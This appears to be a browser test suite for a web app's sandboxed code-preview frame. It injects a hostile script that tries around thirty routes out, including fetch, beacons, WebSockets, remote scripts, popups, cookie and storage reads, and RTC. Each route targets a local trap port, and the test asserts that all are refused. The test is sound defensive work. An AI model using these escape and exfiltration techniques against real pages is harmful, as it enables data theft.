// The frame that shows code can reach nothing: not the server, not the network, not the page, not the browser's stores.
// Hostile code tries every way there is and writes down what came of it; a listener stands by for what gets out all the
// same.

import { assert, assertEquals, assertMatch } from "@std/assert";
import type { Framework } from "../../src/core/code_event.ts";
import { PREVIEW_POLICY, staticFiles } from "../../src/edge/static.ts";
import { ended } from "../edge/jobs.ts";
import { closeBrowserAtEnd } from "../support/browser.ts";
import { fenced, type TeamScript } from "../support/coders.ts";
import { attackers, placed, real, scripted, type Yard, yard } from "./jobs_visit.ts";

// deno-lint-ignore no-explicit-any
type Json = any;

/** A port on which nothing may ever arrive. A browser that opens a connection and then does not use it has said nothing. */
function trap() {
  const listener = Deno.listen({ port: 0, hostname: "127.0.0.1" });
  const caught: string[] = [];
  const open: Promise<void>[] = [];
  const ended = Promise.withResolvers<null>();
  const hear = async (connection: Deno.Conn) => {
    const bytes = new Uint8Array(200);
    const read = await Promise.race([connection.read(bytes).catch(() => null), ended.promise]);
    if (read) caught.push(new TextDecoder().decode(bytes.subarray(0, read)));
  };
  const done = (async () => {
    for await (const connection of listener) {
      open.push(hear(connection).finally(() => connection.close()));
    }
  })();
  return {
    port: listener.addr.port,
    caught,
    async [Symbol.asyncDispose]() {
      listener.close();
      ended.resolve(null);
      await done;
      await Promise.all(open);
    },
  };
}

/** Each tries one way out; what it says is kept in the frame's own `told`. */
function hostile(away: number): string {
  const out = `127.0.0.1:${away}`;
  return `
  window.told = {};
  const tried = async (name, way) => {
    try { told[name] = "reached: " + String(await way()).slice(0, 60); } catch (error) { told[name] = "refused " + error.name; }
  };
  const loads = (make) => new Promise((resolve, reject) => {
    const element = make();
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new TypeError());
    document.body.append(element);
    setTimeout(() => reject(new RangeError()), 1500);
  });
  const made = (name, fields) => Object.assign(document.createElement(name), fields);
  const home = new URL(document.referrer || location.href).origin;
  window.done = Promise.all([
    tried("fetch away", () => fetch("http://${out}/x")),
    tried("fetch home", () => fetch("/api/v1/agents")),
    tried("xhr", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open("GET", "http://${out}/x"); x.send(); })),
    tried("beacon", () => { if (!navigator.sendBeacon("http://${out}/x", "x")) throw new TypeError(); }),
    tried("socket", () => new Promise((ok, no) => { const s = new WebSocket("ws://${out}/x"); s.onopen = ok; s.onerror = () => no(new TypeError()); })),
    tried("events", () => new Promise((ok, no) => { const s = new EventSource("http://${out}/x"); s.onopen = ok; s.onerror = () => { s.close(); no(new TypeError()); }; })),
    tried("image", () => loads(() => made("img", { src: "http://${out}/x.png" }))),
    tried("script", () => loads(() => made("script", { src: "http://${out}/x.js" }))),
    tried("module", () => import("http://${out}/x.js")),
    tried("module of the server", () => import("/static/app.js")),
    tried("module of a script", () => loads(() => made("script", { type: "module", textContent: 'import "http://${out}/m.js"' }))),
    tried("style", () => loads(() => made("link", { rel: "stylesheet", href: "http://${out}/x.css" }))),
    tried("preload", () => loads(() => made("link", { rel: "preload", as: "image", href: "http://${out}/p.png" }))),
    tried("prefetch", () => loads(() => made("link", { rel: "prefetch", href: "http://${out}/p" }))),
    tried("preconnect", () => loads(() => made("link", { rel: "preconnect", href: "http://${out}" }))),
    tried("dns", () => loads(() => made("link", { rel: "dns-prefetch", href: "http://${out}" }))),
    tried("media", () => loads(() => made("video", { src: "http://${out}/x.mp4", preload: "auto" }))),
    tried("object", () => loads(() => made("object", { data: "http://${out}/x" }))),
    tried("worker", () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = ok; w.onerror = () => no(new TypeError()); })),
    tried("eval", () => eval("1 + 1")),
    tried("parent", () => parent.document.title),
    tried("top", () => { top.location = "http://${out}/x"; }),
    tried("popup", () => { if (!open("http://${out}/x")) throw new TypeError(); }),
    tried("store", () => localStorage.length),
    tried("cookie", () => document.cookie),
    tried("database", () => indexedDB.open("x")),
    tried("rtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:${out}" }] })),
    tried("transport", () => new WebTransport("https://${out}/")),
    tried("frame's rtc", async () => {
      const frame = made("iframe", {});
      document.body.append(frame);
      return new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:${out}" }] });
    }),
    tried("form to a new window", () => { const f = made("form", { action: "http://${out}/x", target: "_blank" }); document.body.append(f); f.submit(); }),
  ]).then(() => new Promise((resolve) => setTimeout(resolve, 300)));`;
}

/** Where the hostile code tries to go; known once there is a trap. */
let away = 0;

const script: TeamScript = {
  special: (o) => o.purpose === "code_write" ? fenced(scripted(o.framework, hostile(away))) : undefined,
};

for (const framework of attackers()) {
  yard(
    `shown code can reach nothing, whatever it tries: ${framework}`,
    script,
    (visit) => reachesNothing(visit, framework),
    /./, // All that is refused is said in the console.
  );
}

async function reachesNothing({ server, open }: Yard, framework: Framework) {
  await using stage = trap();
  away = stage.port;
  const place = await placed(server, { target_framework: framework, include_teams: ["google"] });
  await ended(server, place.slice(7));
  const { page } = await open(place);
  const before = page.url();
  await page.click("button:has-text('Preview')");
  await page.waitForSelector("iframe.preview");
  const frame = (await (await page.waitForSelector("iframe.preview")).contentFrame())!;
  await frame.waitForSelector("#login");
  await frame.evaluate("done");
  const told = await frame.evaluate("told") as Record<string, string>;
  const reached = Object.entries(told).filter(([name, what]) =>
    !what.startsWith("refused") && !SILENT.includes(name)
  );
  assertEquals(reached, []);
  assert(Object.keys(told).length === 30, Object.keys(told).join());
  assertEquals(page.url(), before);
  assertEquals(page.context().pages().length, 1);
  assertEquals(await frame.evaluate("origin"), "null");

  // To lead the frame itself elsewhere, by its address or by a form, is refused by the page.
  for (const to of [`http://127.0.0.1:${away}/x`, `${server.url}/api/v1/agents`, `${server.url}/`]) {
    const form = `Object.assign(document.createElement("form"), { action: ${
      JSON.stringify(to)
    }, method: "post" })`;
    for (const way of [`location = ${JSON.stringify(to)}`, `document.body.appendChild(${form}).submit()`]) {
      await page.click("button:has-text('Code')");
      await page.waitForSelector("iframe.preview", { state: "detached" });
      await page.click("button:has-text('Preview')");
      const shown = await (await page.waitForSelector("iframe.preview")).contentFrame();
      await shown!.waitForSelector("#login");
      const refused = page.waitForEvent(
        "console",
        (line) => /Content Security Policy/.test(line.text()) && /[Ff]ram|form/.test(line.text()),
      );
      await shown!.evaluate(`void (${way})`).catch(() => {});
      await refused;
      assert(page.frames().every((each) => each.url() !== to && !each.url().includes(`:${away}`)), to);
    }
  }
  assertEquals(stage.caught, [], "nothing has arrived");
  using caller = await Deno.connect({ port: away, hostname: "127.0.0.1" });
  await caller.write(new TextEncoder().encode("hello"));
  while (stage.caught.length === 0) await new Promise((resolve) => setTimeout(resolve));
}

/** Ways that say nothing of being refused; that nothing arrives anywhere speaks for them. */
const SILENT = [
  "form to a new window",
  "beacon",
  "preload",
  "prefetch",
  "preconnect",
  "dns",
  "media",
  "object",
];

yard(
  "a form in the preview works, and submits to nowhere",
  { special: (o) => real(o) },
  async ({ server, open }) => {
    const place = await placed(server, { target_framework: "vanilla" });
    await ended(server, place.slice(7));
    const { page } = await open(place);
    await page.click("[data-team=google] button:has-text('Preview')");
    const frame = page.frameLocator("[data-team=google] iframe");
    await frame.locator("[name=email]").fill("ada@example.com");
    await frame.locator("button").click();
    await frame.locator("output:has-text('Welcome, ada@example.com')").waitFor();
    // The other version is another frame.
    await page.click("[data-team=anthropic] button:has-text('Preview')");
    await page.click("[data-team=anthropic] button:has-text('First')");
    await page.waitForFunction(`document.querySelectorAll("iframe").length === 2`);
  },
);

yard(
  "the preview shows its code also on a page that is slow to draw",
  { special: (o) => real(o) },
  async ({ server, open }) => {
    const { page } = await open("#/jobs");
    await page.clock.install();
    const place = await placed(server, { target_framework: "vanilla", include_teams: ["google"] });
    await ended(server, place.slice(7));
    await page.evaluate(`location.hash = ${JSON.stringify(place)}`);
    await page.waitForSelector(".job .won");
    // A tab in the background draws nothing, and the frame's document is there all the same.
    await page.clock.pauseAt(Date.now() + 60_000);
    await page.click("button:has-text('Preview')");
    const frame = (await (await page.waitForSelector("iframe.preview")).contentFrame())!;
    await frame.waitForURL("**/preview.html");
    await page.clock.runFor(1000);
    await frame.waitForSelector("#login");
  },
);

Deno.test("the preview has a policy of its own, and the page frames nothing else", () => {
  const serve = staticFiles();
  const policyOf = (path: string, host = "127.0.0.1:8000") =>
    serve(new Request(`http://${host}${path}`))!.headers.get("content-security-policy")!;
  assertEquals(policyOf("/static/preview.html"), PREVIEW_POLICY);
  const shown = serve(new Request("http://127.0.0.1:8000/static/preview.html"))!;
  assertEquals(shown.headers.get("connection-allowlist"), "()");
  assert(!/allow-same-origin|allow-top|allow-popups|allow-modals|connect-src|\*/.test(PREVIEW_POLICY));
  assertMatch(
    policyOf("/"),
    /frame-src http:\/\/127\.0\.0\.1:8000\/static\/preview\.html https:\/\/127\.0\.0\.1:8000\/static\/preview\.html;/,
  );
  assertEquals((policyOf("/") as Json).includes("unsafe"), false);
});

closeBrowserAtEnd();
